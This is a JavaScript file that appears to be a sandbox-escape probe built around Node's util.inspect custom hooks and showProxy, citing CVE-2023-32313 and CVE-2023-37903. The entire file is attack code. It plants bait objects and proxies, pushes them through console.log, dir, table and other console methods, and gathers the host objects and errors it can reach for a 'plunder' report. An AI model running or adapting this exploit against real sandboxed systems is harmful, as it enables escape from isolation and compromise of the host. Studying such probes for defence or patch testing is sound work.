// util.inspect hooks and showProxy: what the console hands to a hook (CVE-2023-32313, CVE-2023-37903).
const { collector, plunder } = require('./plunder.js');

async function execute(params) {
  const bag = collector();
  const hook = Symbol.for('nodejs.util.inspect.custom');
  const bait = (answer) => ({
    [hook](...given) {
      bag.take(this, ...given);
      const [, options, inspect] = given;
      bag.take(options?.stylize, inspect?.custom, inspect?.(this, { showProxy: true, customInspect: false }));
      try {
        bag.take(options.stylize({ toString: () => bag.take(new Error('stylize')) }, 'special'));
      } catch (error) {
        bag.take(error);
      }
      return answer(given);
    },
  });
  const handler = new Proxy({}, { get: (target, key, receiver) => { bag.take(target, key, receiver); } });
  const baits = [
    bait(() => 'text'), bait(() => ({})), bait(() => { throw new Error('hook'); }), bait(([depth, options, inspect]) => inspect({ [hook]: inspect }, options)),
    new Proxy(bait(() => 'x'), handler), new Proxy(() => 1, handler), Object.create(bait(() => 'y')), [bait(() => 'z')],
    new Map([[bait(() => 'k'), bait(() => 'v')]]), Object.assign(new Error('e'), { cause: bait(() => 'cause'), extra: bait(() => 'w') }),
  ];
  for (const value of baits) {
    for (const method of ['log', 'dir', 'table', 'error', 'trace', 'assert', 'count', 'group', 'groupEnd']) {
      try {
        console[method](...(method === 'assert' ? [false, value] : [value, { showProxy: true, colors: true }]));
      } catch (error) {
        bag.take(error);
      }
    }
    try {
      console.log('%o %O %s %j %c %d', value, value, value, value, value, value);
    } catch (error) {
      bag.take(error);
    }
  }
  const report = plunder(bag.values(), params);
  if (report.reached.length > 0) return report;
  throw bait(() => `inspected ${report.tried > 0}`);
}
